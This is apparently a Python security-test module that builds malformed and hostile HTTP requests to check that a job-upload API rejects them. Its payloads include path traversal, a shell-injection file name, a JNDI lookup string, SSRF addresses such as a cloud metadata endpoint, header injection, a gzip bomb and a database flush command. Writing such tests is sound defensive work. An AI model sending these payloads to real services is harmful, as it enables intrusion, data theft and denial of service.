"""Hostile requests, as the bytes that go over the wire."""

import gzip
import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache, partial
from itertools import chain

from tests.security.bait import ADDRESS, URL
from tests.security.hostile import ACCEPTED
from tests.service_examples import portrait, speech

SUCCESS = "success"
"""Any answer between 200 and 399."""

UNANSWERED = "unanswered"
"""The sender hung up in the middle: nobody is left to be told."""

JOB = b"{job}"
"""Stands for the id of a job that was canceled."""

MALFORMED = "malformed_request"
INCOMPLETE = "upload_incomplete"
INVALID_OPTION = "invalid_option"
INVALID_REQUEST = "invalid_request"
NOT_FOUND = "job_not_found"


@dataclass(frozen=True)
class HostileRequest:
    """A request that no honest client sends.

    Attributes:
        name: what it tries, unique in the corpus.
        build: makes its bytes.
        expected: a problem code, ACCEPTED or SUCCESS.
        hangs_up: whether the sender stops in the middle, and listens only.
    """

    name: str
    build: Callable[[], bytes]
    expected: str
    hangs_up: bool = False


def request(
    *headers: bytes,
    body: bytes = b"",
    line: bytes = b"POST /v1/jobs HTTP/1.1",
    length: bool = True,
) -> bytes:
    """Write a request; headers are lines as they are."""
    lines = [line, b"Host: 127.0.0.1", b"Connection: close", *headers]
    if length:
        lines.append(b"Content-Length: %d" % len(body))
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


def part(disposition: bytes, content: bytes, *headers: bytes) -> bytes:
    """Write a part of a form, without the boundary before it."""
    lines = [b"Content-Disposition: form-data; " + disposition, *headers]
    return b"\r\n".join(lines) + b"\r\n\r\n" + content + b"\r\n"


@cache
def good_parts() -> tuple[bytes, ...]:
    """Return the parts of a form that is accepted."""
    return (
        part(b'name="portrait"; filename="a"', portrait()),
        part(b'name="audio"; filename="b"', speech()),
        part(b'name="consent"', b"true"),
    )


def form(*parts: bytes, boundary: bytes = b"b") -> bytes:
    """Write the body of a form."""
    return b"".join(b"--" + boundary + b"\r\n" + each for each in parts) + b"--" + boundary + b"--"


FORM_TYPE = b"Content-Type: multipart/form-data; boundary=b"
JSON_TYPE = b"Content-Type: application/json"


def post_form(*more: bytes, headers: tuple[bytes, ...] = (), type: bytes = FORM_TYPE) -> bytes:
    """Write a good upload with more parts and headers."""
    return request(type, *headers, body=form(*good_parts(), *more))


def post_parts(*parts: bytes) -> bytes:
    return request(FORM_TYPE, body=form(*parts))


def post_json(body: bytes, path: bytes = b"/v1/jobs", headers: tuple[bytes, ...] = ()) -> bytes:
    return request(JSON_TYPE, *headers, body=body, line=b"POST " + path + b" HTTP/1.1")


def get(path: bytes, *headers: bytes, method: bytes = b"GET") -> bytes:
    return request(*headers, line=method + b" " + path + b" HTTP/1.1", length=False)


def hostile(name: str, expected: str, build: Callable[..., bytes], *given: bytes) -> HostileRequest:
    return HostileRequest(name, partial(build, *given), expected)


# File names


FILE_NAMES = {
    "of_a_parent": b"../../../../etc/passwd",
    "of_a_drive": b"C:\\windows\\..\\..\\system.ini",
    "of_a_playlist": b"x.m3u8",
    "of_an_address": URL.encode() + b".m3u8",
    "of_a_protocol": b"concat:" + URL.encode() + b"|/etc/passwd",
    "of_a_device": b"/dev/zero",
    "of_a_command": b"| touch /tmp/owned; `id` $(id)",
    "of_markup": b"<script src=//x></script>.jpg",
    "written_backwards": "\u202egpj.exe".encode(),
    "of_many_marks": ("a" + "\u0301" * 500).encode(),
    "of_broken_text": b"\xff\xfe\xc3\x28",
    "of_dots": b"." * 200,
    "of_a_format_string": b"%s%s%n{0.__class__}",
    "of_nothing": b"",
}


def _file_names() -> Iterator[HostileRequest]:
    for name, given in FILE_NAMES.items():
        yield hostile(f"file_name_{name}", ACCEPTED, _named, b'filename="%s"' % given)
    yield hostile("file_name_of_a_nul", ACCEPTED, _named, b'filename="a\x00.jpg"')
    yield hostile("file_name_of_two_lines", ACCEPTED, _named, b'filename="a\r\nX-Injected: 1"')
    yield hostile("file_name_of_a_bare_newline", ACCEPTED, _named, b'filename="a\nb"')
    yield hostile(
        "file_name_of_10_kilobytes", MALFORMED, _named, b'filename="%s"' % (b"a" * 10_000)
    )
    yield hostile(
        "file_name_encoded", "not_a_file", _named, b"filename*=UTF-8''..%2f..%2fetc%2fpasswd"
    )
    yield hostile("file_name_twice", ACCEPTED, _named, b'filename="a"; filename="/etc/passwd"')
    yield hostile("file_name_without_an_end", ACCEPTED, _named, b'filename="a')
    yield hostile("file_type_of_html", ACCEPTED, _typed, b"Content-Type: text/html")
    yield hostile("file_type_of_two_lines", ACCEPTED, _typed, b"Content-Type: a\r\nX-Injected: 1")
    yield hostile("file_in_base64", "portrait_unreadable", _in_base64)


def _named(file_name: bytes) -> bytes:
    named = part(b'name="portrait"; ' + file_name, portrait())
    return post_parts(named, *good_parts()[1:])


def _typed(header: bytes) -> bytes:
    typed = part(b'name="portrait"; filename="a"', portrait(), header)
    return post_parts(typed, *good_parts()[1:])


def _in_base64() -> bytes:
    encoded = part(
        b'name="portrait"; filename="a"', b"iVBORw0KGgo=", b"Content-Transfer-Encoding: base64"
    )
    return post_parts(encoded, *good_parts()[1:])


# Forms


CHARSETS = (
    *(b"undefined", b"idna", b"punycode", b"utf-7", b"unicode_escape", b"raw_unicode_escape"),
    *(b"utf-16", b"utf-32", b"zip", b"bz2", b"rot13", b"hex", b"base64", b"uu", b"mbcs", b"cp037"),
    *(b"../../etc/passwd", b"a" * 1_000, b'"\xff"', b'""', b"utf_8_sig", b"oem", b"palmos"),
)


def _forms() -> Iterator[HostileRequest]:
    bare = b"Content-Type: multipart/form-data"
    for name, type in {
        "without_a_boundary": bare,
        "with_an_empty_boundary": bare + b"; boundary=",
        "with_another_boundary": bare + b"; boundary=elsewhere",
        "with_a_boundary_of_5_kilobytes": bare + b"; boundary=" + b"b" * 5_000,
        "with_a_boundary_of_newlines": bare + b'; boundary="\\r\\n"',
    }.items():
        yield HostileRequest(f"form_{name}", partial(post_form, type=type), MALFORMED)
    many = part(b'name="seed"', b"1")
    yield hostile("form_of_100000_parts", MALFORMED, post_parts, *[many] * 100_000)
    file = part(b'name="x"; filename="x"', b"")
    yield hostile("form_of_1000_files", MALFORMED, post_parts, *[file] * 1_000)
    yield hostile("form_of_nothing", "consent_required", post_parts)
    yield hostile("form_with_a_part_twice", "repeated_part", post_form, good_parts()[0])
    for count in (1, 5_000_000):
        header = b"X-Long: " + b"a" * count
        expected = ACCEPTED if count == 1 else MALFORMED
        yield hostile(f"form_with_a_header_of_{count}_bytes", expected, _typed, header)
    yield hostile("form_with_100000_headers", MALFORMED, _typed, b"\r\n".join([b"A: b"] * 100_000))
    nested = part(b'name="audio"; filename="b"', form(*good_parts()), FORM_TYPE)
    parts = (good_parts()[0], nested, good_parts()[2])
    yield hostile("form_in_a_form", "repeated_part", post_parts, *parts)
    for name, disposition in {
        "without_a_name": b'filename="a"',
        "with_a_name_of_5_kilobytes": b'name="%s"' % (b"a" * 5_000),
    }.items():
        yield hostile(f"part_{name}", MALFORMED, post_form, part(disposition, b"x"))
    for name, given in {
        "of_brackets": b"portrait[]",
        "written_backwards": "\u202etiartrop".encode(),
        "of_broken_text": b"\xff\xfe",
        "of_a_prototype": b"__proto__",
        "of_an_attribute": b"options.seed",
    }.items():
        odd = part(b'name="%s"' % given, b"x")
        yield hostile(f"part_named_{name}", "unknown_option", post_form, odd)
    large = part(b'name="metadata"', b"a" * 100_000)
    yield hostile("part_of_100_kilobytes_of_text", MALFORMED, post_form, large)
    yield hostile("form_cut_short", INCOMPLETE, _cut_form)
    yield hostile("form_behind_a_preamble", MALFORMED, _preamble)
    yield hostile("form_of_bare_newlines", MALFORMED, _newlines)
    for charset in CHARSETS:
        name = repr(charset[:30])[2:-1]
        type = FORM_TYPE + b"; charset=" + charset
        text = part(b'name="metadata"', rb'{"note": "\ud800 \\N{DIGIT ONE} +2AA- x..y"}')
        made = partial(post_form, text, type=type)
        yield HostileRequest(f"form_in_the_charset_{name}", made, MALFORMED)


def _cut_form() -> bytes:
    return request(FORM_TYPE, body=form(*good_parts())[:-10])


def _preamble() -> bytes:
    return request(FORM_TYPE, body=b"x" * 1_000_000 + b"\r\n" + form(*good_parts()))


def _newlines() -> bytes:
    return request(FORM_TYPE, body=form(*good_parts()).replace(b"\r\n", b"\n"))


# Bodies


def _bodies() -> Iterator[HostileRequest]:
    bomb = gzip.compress(b'{"metadata": {"a": "' + bytes(100 << 20), 1)
    encoding = b"Content-Encoding: gzip"
    squeezed = partial(request, JSON_TYPE, encoding, body=bomb)
    yield HostileRequest("json_that_inflates", squeezed, MALFORMED)
    squeezed = partial(request, FORM_TYPE, encoding, body=gzip.compress(form(*good_parts())))
    yield HostileRequest("form_that_inflates", squeezed, MALFORMED)
    for name, lines in {
        "negative": [b"Content-Length: -1"],
        "of_letters": [b"Content-Length: abc"],
        "with_a_sign": [b"Content-Length: +2"],
        "twice": [b"Content-Length: 2", b"Content-Length: 3"],
        "beside_chunks": [b"Content-Length: 2", b"Transfer-Encoding: chunked"],
        "of_an_unknown_encoding": [b"Transfer-Encoding: x"],
        "of_chunks_in_gzip": [b"Transfer-Encoding: chunked, gzip"],
        "of_two_lines": [b"Content-Length: 2\r\n 3"],
    }.items():
        made = partial(request, JSON_TYPE, *lines, body=b"{}", length=False)
        yield HostileRequest(f"length_{name}", made, MALFORMED)
    for name, length in {"of_20_digits": b"9" * 20, "of_a_petabyte": b"1" + b"0" * 15}.items():
        made = partial(request, JSON_TYPE, b"Content-Length: " + length, body=b"{}", length=False)
        expected = MALFORMED if name == "of_20_digits" else "body_too_large"
        yield HostileRequest(f"length_{name}", made, expected)
    short = partial(request, JSON_TYPE, b"Content-Length: 9", body=b"{}", length=False)
    yield HostileRequest("length_that_never_comes", short, UNANSWERED, hangs_up=True)
    chunked = b"Transfer-Encoding: chunked"
    endless = partial(request, JSON_TYPE, chunked, body=b"FFFFFFFFFFFFFFFF\r\n{}", length=False)
    yield HostileRequest("chunk_of_16_digits", endless, UNANSWERED, hangs_up=True)
    for name, body in {
        "of_minus_one": b"-1\r\n{}\r\n0\r\n\r\n",
        "of_20_digits": b"FFFFFFFFFFFFFFFFFFFF\r\n{}",
        "of_no_number": b"xyz\r\n{}\r\n0\r\n\r\n",
        "too_short": b"1\r\n{}\r\n0\r\n\r\n",
    }.items():
        made = partial(request, JSON_TYPE, chunked, body=body, length=False)
        yield HostileRequest(f"chunk_{name}", made, MALFORMED)
    for name, body in {
        "extensions": b"2;" + b"a" * 200_000 + b"\r\n{}\r\n0\r\n\r\n",
        "trailers": b"2\r\n{}\r\n0\r\n" + b"A: b\r\n" * 50_000 + b"\r\n",
    }.items():
        made = partial(request, JSON_TYPE, chunked, body=body, length=False)
        yield HostileRequest(f"chunks_with_long_{name}", made, "headers_too_large")


# JSON


GOOD = {
    "portrait_url": "https://example.org/a",
    "audio_url": "https://example.org/b",
    "consent": True,
}


def _with(**values: object) -> bytes:
    return json.dumps({**GOOD, **values}).encode()


def _json() -> Iterator[HostileRequest]:
    for name, body in {
        "of_a_million_lists": b"[" * 1_000_000,
        "of_a_million_objects": b'{"a":' * 300_000,
        "of_no_number": b'{"seed": NaN}',
        "of_infinity": b'{"intensity": Infinity}',
        "of_half_a_character": rb'{"metadata": {"a": "\ud800"}}',
        "of_broken_text": b'{"metadata": {"a": "\xff\xfe"}}',
        "behind_a_byte_order_mark": b"\xef\xbb\xbf{}",
        "in_utf_16": '{"consent": true}'.encode("utf-16"),
        "of_nothing": b"",
        "of_null": b"null",
        "of_zeros": bytes(1_000),
        "with_a_raw_newline": b'{"a": "\n"}',
    }.items():
        yield hostile(f"json_{name}", MALFORMED, post_json, body)
    yield hostile("json_of_3_megabytes", "body_too_large", post_json, b" " * 3_000_000)
    keys = json.dumps({f"k{n}": n for n in range(100_000)}).encode()
    yield hostile("json_of_100000_names", "unknown_option", post_json, keys)
    yield hostile("json_of_a_prototype", "unknown_option", post_json, _with(__proto__={"a": 1}))
    twice = b'{"consent": false, "consent": true}'
    yield hostile("json_with_a_name_twice", "missing_part", post_json, twice)
    odd: dict[str, dict[str, object]] = {
        "seed_of_a_googol": {"seed": 10**100},
        "seed_of_a_float": {"seed": 1e300},
        "seed_of_a_list": {"seed": [1]},
        "intensity_of_a_number_too_large": {"intensity": 10**400},
        "metadata_of_too_many": {"metadata": {str(n): "x" for n in range(17)}},
        "metadata_of_too_much": {"metadata": {"a": "x" * 501}},
        "metadata_with_a_name_of_two_lines": {"metadata": {"a\r\nX-Injected": "1"}},
        "metadata_of_metadata": {"metadata": {"a": {"b": "c"}}},
        "emotion_of_a_megabyte": {"emotion": "x" * 1_000_000},
    }
    for name, values in odd.items():
        yield hostile(f"json_{name}", INVALID_OPTION, post_json, _with(**values))
    number = b'{"seed": 1' + b"0" * 1_000_000 + b"}"
    yield hostile("json_of_a_number_of_a_million_digits", MALFORMED, post_json, number)
    for name, text in {
        "two_lines": "a\r\nX-Injected: 1",
        "a_nul": "a\x00b",
        "a_terminal's_orders": "\x1b]0;owned\x07\x1b[2J",
        "text_written_backwards": "\u202eabc",
        "markup": "<script>alert(1)</script>",
        "a_lookup": "${jndi:ldap://" + ADDRESS + "/a}",
    }.items():
        body = _with(metadata={"note": text})
        yield hostile(f"metadata_of_{name}", ACCEPTED, post_json, body)
    for name, asset in {
        "a_parent": "../../jobs/x/portrait",
        "a_key": "jobs/00000000/request.json",
        "a_nul": "asset\x00",
        "two_lines": "asset\r\nX-Injected: 1",
        "a_pattern": "*",
        "another_tenant": "other/asset",
    }.items():
        assets = json.dumps({"portrait_asset": asset, "audio_asset": asset, "consent": True})
        yield hostile(f"asset_of_{name}", "asset_not_found", post_json, assets.encode())


# Addresses


ADDRESSES = {
    "this_machine": URL,
    "this_machine_in_tls": "https://127.0.0.1/",
    "this_machine_in_ipv6": "https://[::1]/",
    "this_machine_in_mapped_ipv6": "https://[::ffff:127.0.0.1]/",
    "this_machine_in_octal": "https://0177.0.0.1/",
    "this_machine_in_hexadecimal": "https://0x7f.1/",
    "this_machine_in_one_number": "https://2130706433/",
    "this_machine_in_circles": "https://\u2460\u2461\u2466.0.0.1/",
    "this_machine_between_other_dots": "https://127\u30020\u30020\u30021/",
    "nowhere": "https://0.0.0.0/",
    "a_cloud's_secrets": "https://169.254.169.254/latest/meta-data/",
    "a_private_network": "https://10.0.0.1/",
    "another_scheme": "file:///etc/passwd",
    "gopher": f"gopher://{ADDRESS}/_GET",
    "data": "data:image/png;base64,AAAA",
    "a_user": "https://example.org@127.0.0.1/",
    "a_user_and_a_backslash": f"https://example.org\\@{ADDRESS}/",
    "another_port": "https://example.org:22/",
    "two_lines": "https://example.org/\r\nX-Injected: 1",
    "a_nul": "https://example.org/\x00",
    "a_tab": "ht\ttps://example.org/",
    "no_host": "https:///etc/passwd",
    "too_much": "https://example.org/" + "a" * 3_000,
    "a_long_host": "https://" + "a." * 900 + "org/",
    "a_host_of_one_long_label": "https://" + "\u00e4" * 500 + ".org/",
}


def _addresses() -> Iterator[HostileRequest]:
    for name, address in ADDRESSES.items():
        for option in ("webhook_url", "portrait_url"):
            body = _with(**{option: address})
            yield hostile(f"{option}_of_{name}", INVALID_OPTION, post_json, body)


# Headers and lines


def _headers() -> Iterator[HostileRequest]:
    keys = {
        "of_nothing": (b"", INVALID_REQUEST),
        "of_300_letters": (b"a" * 300, INVALID_REQUEST),
        "of_10_kilobytes": (b"a" * 10_000, INVALID_REQUEST),
        "of_broken_text": (b"\xff\xfe", INVALID_REQUEST),
        "with_a_space": (b"a b", INVALID_REQUEST),
        "with_a_tab": (b"a\tb", INVALID_REQUEST),
        "of_two_lines": (b"a\r\n X-Injected: 1", MALFORMED),
        "with_a_bare_return": (b"a\rX-Injected: 1", MALFORMED),
        "with_a_bare_newline": (b"a\nX-Injected: 1", MALFORMED),
        "with_a_nul": (b"a\x00b", MALFORMED),
    }
    for name, (key, expected) in keys.items():
        made = partial(post_json, _with(), headers=(b"Idempotency-Key: " + key,))
        yield HostileRequest(f"idempotency_key_{name}", made, expected)
    job = b"/v1/jobs/" + JOB
    values = {
        "of_10_kilobytes": b"a" * 10_000,
        "of_broken_text": b"\xff\xfe\x80",
        "of_commas": b"," * 20_000,
        "of_quotes": b'"' * 20_000,
        "of_digits": b"wait=" + b"9" * 20_000,
        "of_ranges": b"bytes=" + b",".join(b"%d-%d" % (n, n) for n in range(3_000)),
        "of_spaces": b"bytes=" + b" " * 30_000 + b"x",
        "of_a_negative_range": b"bytes=-99999999999999999999",
        "of_tags": b", ".join([b'W/"a"'] * 3_000),
        "of_other_digits": "bytes=\u0661-\u0662".encode(),
    }
    for header in (b"Range", b"If-Range", b"If-None-Match", b"Prefer", b"Last-Event-ID", b"Accept"):
        for name, value in values.items():
            shown = header.decode().lower()
            line = header + b": " + value
            yield hostile(f"{shown}_{name}", SUCCESS, get, job, line)
            if header == b"Last-Event-ID":
                yield hostile(f"{shown}_{name}_followed", SUCCESS, get, job + b"/events", line)
    yield hostile(
        "headers_of_100_kilobytes", "headers_too_large", get, job, b"A: " + b"a" * 100_000
    )
    yield hostile("headers_of_50000_lines", "headers_too_large", get, job, *[b"A: b"] * 50_000)
    yield hostile("header_without_a_name", MALFORMED, get, job, b": x")
    yield hostile("header_with_a_space_in_its_name", MALFORMED, get, job, b"A b: x")
    yield hostile(
        "authorization_of_10_kilobytes", SUCCESS, get, job, b"Authorization: " + b"a" * 10_000
    )
    yield hostile("forwarded_from_elsewhere", SUCCESS, get, job, b"X-Forwarded-Host: evil.example")


def _origins() -> Iterator[HostileRequest]:
    for name, origin in {
        "of_half_an_address": b"http://[",
        "of_a_port_too_high": b"http://127.0.0.1:99999999999",
        "of_nothing": b"null",
        "of_broken_text": b"\xff\xfe",
        "of_5_kilobytes": b"http://" + b"a" * 5_000,
        "of_a_user": b"http://127.0.0.1@evil.example",
    }.items():
        made = partial(post_json, _with(), headers=(b"Origin: " + origin,))
        yield HostileRequest(f"origin_{name}", made, "origin_refused")
    for name, host in {
        "of_half_an_address": b"[::1",
        "of_a_path": b"127.0.0.1/x?y#z",
        "of_a_user": b"evil@127.0.0.1",
        "of_broken_text": b"\xff\xfe",
        "of_another": b"evil.example",
    }.items():
        line = b"GET /v1/jobs/ HTTP/1.1"
        made = partial(bytes, line + b"\r\nConnection: close\r\nHost: " + host + b"\r\n\r\n")
        yield HostileRequest(f"host_{name}", made, "route_not_found")


def _lines() -> Iterator[HostileRequest]:
    for name, path, expected in (
        ("to_a_parent", b"/v1/jobs/..%2f..%2f..%2fetc%2fpasswd", "route_not_found"),
        ("to_a_parent_of_assets", b"/static/..%2f..%2f..%2fetc%2fpasswd", "route_not_found"),
        ("with_a_nul", b"/v1/jobs/a%00b", NOT_FOUND),
        ("of_broken_text", b"/v1/jobs/%ff%fe", NOT_FOUND),
        ("of_two_lines", b"/v1/jobs/a%0d%0aX-Injected:%201", NOT_FOUND),
        ("of_20_kilobytes", b"/v1/jobs/" + b"a" * 20_000, NOT_FOUND),
        ("of_a_pattern", b"/v1/jobs/*", NOT_FOUND),
        ("to_another_host", b"//evil.example/v1/jobs/", "route_not_found"),
        ("with_a_slash_behind", b"/v1/jobs/" + JOB + b"/", "route_not_found"),
        ("of_a_problem_above_all", b"/problems/..%2f", "route_not_found"),
        ("with_a_cursor_of_garbage", b"/v1/jobs?cursor=%00%ff", INVALID_REQUEST),
        ("with_a_cursor_of_20_kilobytes", b"/v1/jobs?cursor=" + b"9" * 20_000, INVALID_REQUEST),
        ("with_a_cursor_of_infinity", b"/v1/jobs?cursor=1e999", INVALID_REQUEST),
        ("with_a_limit_of_a_googol", b"/v1/jobs?limit=1" + b"0" * 100, INVALID_REQUEST),
        ("with_a_limit_below_zero", b"/v1/jobs?limit=-1", INVALID_REQUEST),
        ("with_5000_parameters", b"/v1/jobs?" + b"a=1&" * 5_000, INVALID_REQUEST),
        ("with_a_wait_of_a_googol", b"/v1/jobs/" + JOB + b"?wait=1" + b"0" * 99, INVALID_REQUEST),
    ):
        yield hostile(f"path_{name}", expected, get, path)
    for method in (b"TRACE", b"PUT", b"PATCH", b"PROPFIND"):
        made = partial(get, b"/v1/jobs", method=method)
        yield HostileRequest(f"method_{method.decode()}", made, "method_not_allowed")
    made = partial(get, b"127.0.0.1:22", method=b"CONNECT")
    yield HostileRequest("method_CONNECT", made, MALFORMED)
    for name, sent in {
        "tls": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(200),
        "http_2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(20),
        "nothing_known": b"\x00\xff" * 500,
        "a_proxy's_greeting": b"PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\n" + get(b"/livez"),
        "valkey": b"*1\r\n$8\r\nFLUSHALL\r\n\r\n",
        "http_of_another_age": b"GET /livez HTTP/9.9\r\nHost: x\r\n\r\n",
    }.items():
        yield hostile(f"line_of_{name}", MALFORMED, bytes, sent)
    upgrade = (b"Upgrade: websocket", b"Connection: upgrade", b"Sec-WebSocket-Version: 13")
    yield hostile("upgrade_to_a_websocket", SUCCESS, get, b"/v1/jobs/" + JOB, *upgrade)


REQUESTS = tuple(
    chain(
        _file_names(),
        _forms(),
        _bodies(),
        _json(),
        _addresses(),
        _headers(),
        _origins(),
        _lines(),
    )
)
